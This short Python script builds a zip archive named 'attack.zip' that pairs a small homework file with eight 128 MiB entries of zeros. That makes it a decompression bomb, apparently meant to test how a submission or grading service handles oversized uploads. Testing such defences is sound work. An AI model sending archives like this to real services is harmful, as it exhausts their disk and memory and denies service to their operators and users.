import zipfile
from pathlib import Path

HOMEWORK = "def flatten(x):\n    return x.reshape(x.shape[0], -1)\n"


def build(folder: Path) -> None:
    with zipfile.ZipFile(folder / "attack.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("homework.py", HOMEWORK)
        for number in range(8):
            with archive.open(f"{number}.bin", "w") as entry:
                for _ in range(128):
                    entry.write(bytes(1 << 20))
